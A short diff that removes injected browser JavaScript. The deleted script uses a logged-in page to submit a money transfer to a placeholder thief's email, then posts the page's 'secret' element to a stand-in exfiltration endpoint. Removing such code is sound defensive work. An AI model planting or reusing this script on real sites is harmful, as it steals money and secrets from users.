@@ -1,7 +1,0 @@
-// Needs no token: it is in the page, and the page is logged in.
-(async () => {
-  const at = (id) => document.getElementById(id);
-  [at("to").value, at("amount").value] = [THIEF.email, "100"];
-  at("transfer").requestSubmit();
-  await fetch(LOOT, { method: "POST", mode: "no-cors", body: at("secret").textContent });
-})();
